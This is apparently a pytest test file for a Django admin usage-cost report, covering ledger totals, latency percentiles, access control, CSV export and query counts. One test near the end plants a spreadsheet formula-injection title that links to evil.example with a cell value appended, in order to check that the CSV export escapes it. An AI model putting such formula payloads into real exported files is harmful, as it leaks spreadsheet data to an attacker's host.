"""The admin usage report: what staff read to know who spends what. Its figures must be the
ledger's, to the last digit, for the range asked; only staff see them; the CSV is the
page's table; a model without a price is never shown as free; the page costs a fixed
number of queries however many users there are."""

import csv
import datetime as dt
import io
import itertools
import random
from decimal import Decimal

import pytest
from django.db import connection, transaction
from django.db.models import Count, Q, Sum
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from chatapp.chat.models import Conversation, Message
from chatapp.usage import report
from chatapp.usage.models import TOKEN_FIELDS, UpstreamRateLimit, UsagePolicy, UsageRecord
from chatapp.usage.pricing import LEDGER_FIELDS, TokenUsage, cache_savings
from chatapp.usage.selectors import percentile_of_counts
from chatapp.usage.services import usage_reserve, usage_settle

REPORT = reverse("admin:usage_usagerecord_report")
UNPRICED = "claude-unpriced-9"


@pytest.fixture(autouse=True)
def no_rate_limit(db):
    policy = UsagePolicy.current()
    policy.requests_per_minute = 0
    policy.save()


def spend(
    user,
    *,
    model: str = "claude-sonnet-5",
    conversation=None,
    message=None,
    when: dt.datetime | None = None,
    input_tokens: int = 1200,
    output_tokens: int = 345,
    cache_write_5m: int = 0,
    cache_write_1h: int = 0,
    cache_read: int = 0,
    ttft: int | None = 250,
    purpose: str = "chat",
    web_searches: int = 0,
    web_fetches: int = 0,
) -> UsageRecord:
    """One call through the ledger's own road: reserved, then settled (which also adds it
    to UsageDaily). `when` dates the call before it is settled, as if made then."""
    with transaction.atomic():
        record = usage_reserve(
            user=user,
            model=model,
            max_tokens=1000,
            input_tokens_at_most=100_000,
            web_searches_at_most=web_searches,
            conversation_id=conversation.pk if conversation else None,
            message_id=message.pk if message else None,
            purpose=purpose,
        )
        if when is not None:
            UsageRecord.objects.filter(pk=record.pk).update(created_at=when)
            record.created_at = when
        usage_settle(
            record=record,
            usage={
                "input_tokens": input_tokens,
                "output_tokens": output_tokens,
                "cache_creation_input_tokens": cache_write_5m + cache_write_1h,
                "cache_read_input_tokens": cache_read,
                "cache_creation": {
                    "ephemeral_5m_input_tokens": cache_write_5m,
                    "ephemeral_1h_input_tokens": cache_write_1h,
                },
                "server_tool_use": {
                    "web_search_requests": web_searches,
                    "web_fetch_requests": web_fetches,
                },
            },
            status="complete",
            request_id=f"req_{record.pk:06d}",
            time_to_first_token_ms=ttft,
            duration_ms=900,
        )
    return record


def conversation_of(user, title: str = "Trip to Lisbon") -> Conversation:
    return Conversation.objects.create(
        owner=user, title=title, model="claude-sonnet-5", max_tokens=1024
    )


def reply_in(conversation: Conversation) -> Message:
    return Message.objects.create(conversation=conversation, role="assistant", model="m")


def ledger_sums(**filters) -> dict:
    """What the ledger itself adds up to, the reference for every figure of the report."""
    records = UsageRecord.objects.filter(settled_at__isnull=False, **filters)
    sums = records.aggregate(
        requests=Count("id"),
        total_cost=Sum("cost"),
        unpriced_requests=Count("id", filter=Q(cost__isnull=True)),
        **{name: Sum(name) for name in LEDGER_FIELDS},
    )
    sums["cost"] = sums.pop("total_cost")
    sums["cache_savings"] = sum(
        (
            cache_savings(
                TokenUsage(**{name: getattr(r, name) for name in LEDGER_FIELDS}), r.price.prices
            )
            for r in records.select_related("price")
            if r.price
        ),
        Decimal(0),
    )
    return sums


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode())))


@pytest.fixture
def mixed_usage(owner, stranger, make_user):
    """Three users, three models (one without a price), cache reads and writes, web
    searches and fetches."""
    lisbon = conversation_of(owner)
    spend(owner, conversation=lisbon, message=reply_in(lisbon), cache_read=40_000, ttft=100)
    spend(
        owner,
        conversation=lisbon,
        message=reply_in(lisbon),
        cache_write_5m=3000,
        ttft=300,
        web_searches=3,
        web_fetches=2,
    )
    spend(owner, model="claude-opus-4-8", cache_write_1h=2000, ttft=200)
    spend(
        stranger,
        model="claude-haiku-4-5",
        input_tokens=7,
        output_tokens=11,
        ttft=400,
        web_searches=1,
    )
    spend(stranger, model=UNPRICED, output_tokens=500, ttft=1000)
    spend(make_user("third"), input_tokens=999_999, output_tokens=123_457, cache_read=77)
    return lisbon


def test_totals_equal_the_ledgers_sums_to_the_last_digit(client, staff, mixed_usage):
    client.force_login(staff)
    response = client.get(REPORT)
    assert response.status_code == 200
    totals = response.context["summary"].totals
    expected = ledger_sums()
    assert totals.requests == expected["requests"] == 6
    for name in LEDGER_FIELDS:
        assert getattr(totals, name) == expected[name], name
    assert (totals.web_search_requests, totals.web_fetch_requests) == (4, 2)
    assert totals.cost == expected["cost"]
    assert totals.unpriced_requests == expected["unpriced_requests"] == 1
    assert totals.cache_savings == expected["cache_savings"]
    all_input = sum(expected[name] for name in TOKEN_FIELDS if name != "output_tokens")
    assert totals.cache_hit_ratio == expected["cache_read_input_tokens"] / all_input
    # The page shows them, money to 4 decimals.
    html = response.content.decode()
    assert report.money(expected["cost"]) in html
    assert f"{expected['input_tokens']:,}" in html


def test_per_user_table_sums_each_users_calls_most_expensive_first(
    client, staff, owner, stranger, mixed_usage
):
    client.force_login(staff)
    table = client.get(REPORT).context["table"]
    assert table.columns[0] == "user" and table.row_count == 3
    names = [row[0].text for row in table.rows]
    assert names == ["third", "owner", "stranger"]
    owner_row = table.rows[1]
    expected = ledger_sums(user=owner)
    values = dict(zip(table.columns, [cell.value for cell in owner_row], strict=True))
    assert values["requests"] == str(expected["requests"])
    assert values["cache read tokens"] == str(expected["cache_read_input_tokens"])
    assert Decimal(values["cost"]) == expected["cost"]
    assert owner_row[0].href.endswith(f"user={owner.pk}")


def test_by_model_and_by_day_add_up_to_the_totals(client, staff, mixed_usage):
    client.force_login(staff)
    summary = client.get(REPORT).context["summary"]
    by_model = {line.model: line.sums for line in summary.by_model}
    assert set(by_model) == {"claude-sonnet-5", "claude-opus-4-8", "claude-haiku-4-5", UNPRICED}
    for model, sums in by_model.items():
        assert sums.cost == (ledger_sums(model=model)["cost"] or 0)
    assert sum(sums.requests for _, sums in summary.by_day) == summary.totals.requests
    assert len(summary.by_day) == 30
    quiet_day = summary.by_day[0][1]  # nothing was spent 29 days ago: $0, not "no price"
    assert quiet_day.requests == 0 and quiet_day.cells[6].text == "$0.0000"
    # The chart: one stacked series per priced model, one point per day.
    chart = summary.chart
    assert len(chart["labels"]) == 30
    assert {s["label"] for s in chart["datasets"]} == set(by_model) - {UNPRICED}
    assert all(len(s["data"]) == 30 for s in chart["datasets"])


def test_latency_is_the_median_and_p95_of_time_to_first_token(client, staff, owner):
    for ms in (1000, 200, 300, 400, 100):
        spend(owner, ttft=ms)
    spend(owner, ttft=None)  # no first token: not a latency
    for ms in (100, 100, 100, 500):
        spend(owner, model="claude-haiku-4-5", ttft=ms)
    client.force_login(staff)
    response = client.get(REPORT)
    line = next(li for li in response.context["summary"].by_model if li.model == "claude-sonnet-5")
    assert line.latency.calls == 5
    assert line.latency.median_ms == 300
    assert line.latency.p95_ms == pytest.approx(880)  # 400 + 0.8 * (1000 - 400)
    assert "880 ms" in response.content.decode()
    repeated = next(
        li for li in response.context["summary"].by_model if li.model == "claude-haiku-4-5"
    )
    assert (repeated.latency.median_ms, repeated.latency.p95_ms) == (100, pytest.approx(440))


def interpolated(ordered: list[int], fraction: float) -> float:
    """percentile_cont's definition, on the full sorted list."""
    position = fraction * (len(ordered) - 1)
    below = int(position)
    above = min(below + 1, len(ordered) - 1)
    return ordered[below] + (ordered[above] - ordered[below]) * (position - below)


def test_percentiles_from_counts_equal_percentile_conts_definition():
    rng = random.Random(7)
    for size in (1, 2, 3, 10, 101, 1000):
        ordered = sorted(
            rng.choice([120, 250, 250, 400, 999, 3000]) + rng.randint(0, 3) for _ in range(size)
        )
        values = sorted(set(ordered))
        cumulative = list(itertools.accumulate(ordered.count(v) for v in values))
        for fraction in (0, 0.5, 0.95, 1):
            assert percentile_of_counts(values, cumulative, fraction) == pytest.approx(
                interpolated(ordered, fraction)
            ), (size, fraction)


@pytest.mark.postgres
def test_latency_equals_postgresqls_percentile_cont(client, staff, owner, stranger):
    rng = random.Random(11)
    for n in range(60):
        spend(
            owner if n % 2 else stranger,
            ttft=rng.choice([90, 90, 150, 700, 2500]) + rng.randint(0, 9),
        )
    spend(owner, model="claude-haiku-4-5", ttft=42)
    client.force_login(staff)
    by_model = {li.model: li.latency for li in client.get(REPORT).context["summary"].by_model}
    ordered = "WITHIN GROUP (ORDER BY time_to_first_token_ms)"
    with connection.cursor() as cursor:
        cursor.execute(
            f"SELECT model, COUNT(*), percentile_cont(0.5) {ordered}, "
            f"percentile_cont(0.95) {ordered} FROM usage_usagerecord "
            "WHERE time_to_first_token_ms IS NOT NULL GROUP BY model"
        )
        expected = {model: (calls, median, p95) for model, calls, median, p95 in cursor.fetchall()}
    assert set(by_model) == set(expected)
    for model, latency in by_model.items():
        calls, median, p95 = expected[model]
        assert latency.calls == calls
        assert latency.median_ms == pytest.approx(median, abs=1e-9)
        assert latency.p95_ms == pytest.approx(p95, abs=1e-9)


def test_the_range_counts_only_its_own_days(client, staff, owner):
    now = timezone.now()
    yesterday = spend(owner, when=now - dt.timedelta(days=1), input_tokens=111)
    today = spend(owner, input_tokens=222)
    old = spend(owner, when=now - dt.timedelta(days=40), input_tokens=444)
    client.force_login(staff)

    def totals(**params):
        return client.get(REPORT, params).context["summary"].totals

    assert totals(range="today").input_tokens == today.input_tokens
    assert totals(range="today").requests == 1
    assert totals(range="7d").input_tokens == today.input_tokens + yesterday.input_tokens
    assert totals().input_tokens == 333  # the default: the last 30 days
    day = timezone.localdate(yesterday.created_at).isoformat()
    assert totals(range="custom", start=day, end=day).input_tokens == 111
    old_day = timezone.localdate(old.created_at).isoformat()
    assert totals(range="custom", start=old_day, end=day).input_tokens == 555
    month = totals(range="month")
    in_month = [r for r in (yesterday, today, old) if r.created_at >= now.replace(day=1)]
    assert month.requests >= 1
    assert month.input_tokens == sum(
        r.input_tokens
        for r in in_month
        if timezone.localdate(r.created_at) >= timezone.localdate().replace(day=1)
    )


def test_a_reversed_or_bad_custom_range_is_a_form_error(client, staff, owner):
    spend(owner)
    client.force_login(staff)
    response = client.get(REPORT, {"range": "custom", "start": "2026-05-10", "end": "2026-05-01"})
    assert response.status_code == 200
    assert "is after the end date" in response.content.decode()
    assert response.context.get("summary") is None and response.context.get("table") is None

    response = client.get(REPORT, {"range": "custom", "start": "2026-13-45", "end": "2026-05-01"})
    assert response.context["form"].errors["start"]
    response = client.get(REPORT, {"range": "custom", "start": "2026-05-01"})
    assert "needs a start date and an end date" in response.content.decode()
    response = client.get(REPORT, {"range": "custom", "start": "2024-01-01", "end": "2026-01-01"})
    assert "at most 366 days" in response.content.decode()
    response = client.get(REPORT, {"range": "fortnight"})
    assert response.context["form"].errors["range"]

    csv_response = client.get(
        REPORT, {"range": "custom", "start": "2026-05-10", "end": "2026-05-01", "format": "csv"}
    )
    assert csv_response.status_code == 400 and b"after the end date" in csv_response.content


def test_anonymous_visitors_are_sent_to_the_admin_login(client, owner):
    spend(owner)
    for params in ({}, {"format": "csv"}, {"user": owner.pk}):
        response = client.get(REPORT, params)
        assert response.status_code == 302 and "/admin/login/" in response.url


def test_non_staff_users_get_no_report_and_no_csv(client, owner, stranger):
    spend(owner, model=UNPRICED)
    client.force_login(stranger)
    for params in ({}, {"format": "csv"}, {"user": owner.pk}):
        response = client.get(REPORT, params)
        assert response.status_code == 302 and "/admin/login/" in response.url
        assert b"owner" not in response.content and UNPRICED.encode() not in response.content


def test_staff_without_permission_on_the_ledger_get_403(client, make_user, owner):
    spend(owner)
    clerk = make_user("clerk", is_staff=True)  # staff, but no usage permissions
    client.force_login(clerk)
    for params in ({}, {"format": "csv"}):
        response = client.get(REPORT, params)
        assert response.status_code == 403 and b"owner" not in response.content


def all_pages(client, params: dict) -> list[list[str]]:
    """The CSV values of the page's table, page after page."""
    rows, page = [], 1
    while True:
        context = client.get(REPORT, {**params, "page": page}).context
        rows += [[cell.value for cell in row] for row in context["table"].rows]
        if page >= context["pages"].count:
            return rows
        page += 1


def test_the_csv_is_the_pages_table_all_pages_of_it(client, staff, owner, make_user, monkeypatch):
    monkeypatch.setattr(report, "PAGE_SIZE", 2)
    for n in range(5):
        spend(make_user(f"user{n}"), input_tokens=1000 * (n + 1))
    spend(owner, model=UNPRICED)
    client.force_login(staff)

    page_one = client.get(REPORT, {"range": "7d"}).context
    assert len(page_one["table"].rows) == 2 and page_one["pages"].count == 3
    shown = all_pages(client, {"range": "7d"})
    assert len(shown) == 6

    response = client.get(REPORT, {"range": "7d", "format": "csv"})
    rows = csv_rows(response)
    assert rows[0] == page_one["table"].columns
    assert rows[1:] == shown
    period = page_one["period"]
    assert f'filename="usage_{period.slug}.csv"' in response["Content-Disposition"]
    assert period.slug == f"7d_{period.start:%Y-%m-%d}_{period.end:%Y-%m-%d}"
    # Exact Decimals in the CSV, 4 decimals on the page.
    first = dict(zip(rows[0], rows[1], strict=True))
    assert Decimal(first["cost"]) == ledger_sums(user__username="user4")["cost"]
    cost_column = rows[0].index("cost")
    assert page_one["table"].rows[0][cost_column].text == report.money(Decimal(first["cost"]))


def test_the_csv_follows_the_drill_down(client, staff, owner, stranger, mixed_usage):
    client.force_login(staff)
    for params in ({"user": owner.pk}, {"user": owner.pk, "conversation": mixed_usage.pk}):
        page = client.get(REPORT, params).context["table"]
        rows = csv_rows(client.get(REPORT, {**params, "format": "csv"}))
        assert rows[0] == page.columns
        assert rows[1:] == [[cell.value for cell in row] for row in page.rows]
    response = client.get(
        REPORT, {"user": owner.pk, "conversation": mixed_usage.pk, "format": "csv"}
    )
    assert f"user-{owner.pk}_conversation-{mixed_usage.pk}.csv" in response["Content-Disposition"]


def test_a_model_without_a_price_is_flagged_and_never_shown_as_free(client, staff, stranger):
    spend(stranger, model=UNPRICED, output_tokens=500)
    client.force_login(staff)
    response = client.get(REPORT)
    html = response.content.decode()
    assert f"{UNPRICED}: no price" in html and "costs are not counted" in html
    assert "add a price" in html and f"?model={UNPRICED}" in html
    row = response.context["table"].rows[0]
    cost = row[response.context["table"].columns.index("cost")]
    assert cost.text == "no price" and cost.value == "no price" and cost.flagged
    assert "$0.0000" not in html.split('id="usage-main-title"')[1]
    line = response.context["summary"].by_model[0]
    assert line.model == UNPRICED and line.sums.shown_cost is None
    cells = dict(zip(report.SUM_COLUMNS, line.sums.cells, strict=True))
    assert (cells["cost"].text, cells["calls without a price"].text) == ("no price", "1")
    exported = csv_rows(client.get(REPORT, {"format": "csv"}))
    assert exported[1][exported[0].index("cost")] == "no price"

    index = client.get(reverse("admin:index")).content.decode()
    assert f"{UNPRICED}: no price" in index and "costs are not counted for its 1 call " in index
    assert f"?model={UNPRICED}" in index
    assert reverse("admin:usage_usagerecord_report") in index and "Usage report" in index


def test_drilling_down_shows_only_that_users_rows(client, staff, owner, stranger, mixed_usage):
    theirs = conversation_of(stranger, "Not yours")
    spend(stranger, conversation=theirs, message=reply_in(theirs))
    client.force_login(staff)

    response = client.get(REPORT, {"user": owner.pk})
    table = response.context["table"]
    assert table.columns[:2] == ["conversation", "id"]
    assert [row[0].text for row in table.rows] == ["(no conversation)", "Trip to Lisbon"] or [
        row[0].text for row in table.rows
    ] == ["Trip to Lisbon", "(no conversation)"]
    assert "Not yours" not in response.content.decode()
    totals = response.context["summary"].totals
    assert totals.requests == ledger_sums(user=owner)["requests"] == 3
    assert totals.cost == ledger_sums(user=owner)["cost"]
    assert sum(int(row[2].value) for row in table.rows) == 3
    assert [name for name, _ in response.context["crumbs"]] == ["Usage report", "owner"]

    response = client.get(REPORT, {"user": owner.pk, "conversation": mixed_usage.pk})
    table = response.context["table"]
    expected = UsageRecord.objects.filter(conversation_id=mixed_usage.pk).order_by(
        "created_at", "id"
    )
    assert [row[1].value for row in table.rows] == [str(r.message_id) for r in expected]
    request_id = table.columns.index("request id")
    assert [row[request_id].value for row in table.rows] == [r.request_id for r in expected]
    costs = [Decimal(row[table.columns.index("cost")].value) for row in table.rows]
    assert costs == [r.cost for r in expected]
    assert response.context["summary"].totals.cost == sum(costs)
    assert (
        response.context["summary"].totals.cache_savings
        == ledger_sums(conversation_id=mixed_usage.pk)["cache_savings"]
    )
    assert [name for name, _ in response.context["crumbs"]] == [
        "Usage report",
        "owner",
        "Trip to Lisbon",
    ]

    # The calls outside any conversation, and nothing of another user's conversation.
    loose = client.get(REPORT, {"user": owner.pk, "conversation": "none"}).context["table"]
    assert [row[3].value for row in loose.rows] == ["claude-opus-4-8"]
    assert client.get(REPORT, {"user": owner.pk, "conversation": theirs.pk}).status_code == 404
    assert client.get(REPORT, {"user": 987654}).status_code == 404
    assert client.get(REPORT, {"user": "x"}).status_code == 404


def test_pages_of_the_user_table(client, staff, make_user, monkeypatch):
    monkeypatch.setattr(report, "PAGE_SIZE", 2)
    for n in range(5):
        spend(make_user(f"user{n}"), input_tokens=1000 * (n + 1))
    client.force_login(staff)
    second = client.get(REPORT, {"page": 2}).context
    assert [row[0].text for row in second["table"].rows] == ["user2", "user1"]
    assert [label for label, _ in second["pages"].links] == [1, 2, 3]
    beyond = client.get(REPORT, {"page": 9})
    assert beyond.context["table"].rows == []
    assert "No rows on page 9" in beyond.content.decode()


def test_the_latest_upstream_rate_limits_are_shown(client, staff):
    UpstreamRateLimit.objects.create(
        headers={"anthropic-ratelimit-requests-remaining": "49"}, observed_at=timezone.now()
    )
    client.force_login(staff)
    html = client.get(REPORT).content.decode()
    assert "anthropic-ratelimit-requests-remaining" in html and "<td>49</td>" in html


def queries_for(client, params: dict) -> int:
    with CaptureQueriesContext(connection) as queries:
        response = client.get(REPORT, params)
    assert response.status_code == 200
    return len(queries)


@pytest.mark.parametrize("csv_format", [False, True])
def test_the_report_costs_the_same_queries_for_3_or_30_users(client, staff, make_user, csv_format):
    extra = {"format": "csv"} if csv_format else {}

    def add_users(start: int, stop: int):
        for n in range(start, stop):
            user = make_user(f"user{n}")
            chat = conversation_of(user)
            spend(user, conversation=chat, message=reply_in(chat))
            spend(user, conversation=chat, message=reply_in(chat), model=UNPRICED)

    add_users(0, 3)
    client.force_login(staff)
    first = UsageRecord.objects.filter(user__username="user0").first()
    levels = [
        {},
        {"user": first.user_id},
        {"user": first.user_id, "conversation": first.conversation_id},
    ]
    small = [queries_for(client, {**level, **extra}) for level in levels]
    add_users(3, 30)
    for _ in range(10):  # and more conversations and calls for the drilled-down user
        chat = conversation_of(first.user)
        spend(first.user, conversation=chat)
        first_chat = Conversation.objects.get(pk=first.conversation_id)
        spend(first.user, conversation=first_chat, message=reply_in(first_chat))
    large = [queries_for(client, {**level, **extra}) for level in levels]
    assert small == large
    assert max(large) <= 9  # 8, and one for the replies' ratings per model


def test_a_title_that_looks_like_a_formula_stays_text_in_the_csv(client, staff, owner):
    evil = conversation_of(owner)
    evil.title = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    evil.save()
    spend(owner, conversation=evil, message=reply_in(evil))
    client.force_login(staff)
    rows = csv_rows(client.get(REPORT, {"user": owner.pk, "format": "csv"}))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + evil.title in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]


def test_a_page_number_past_any_integer_is_an_empty_page_not_an_error(client, staff, owner):
    spend(owner)
    client.force_login(staff)
    for page in ("99999999999999999999999", "-5", "x"):
        assert client.get(REPORT, {"page": page}).status_code == 200
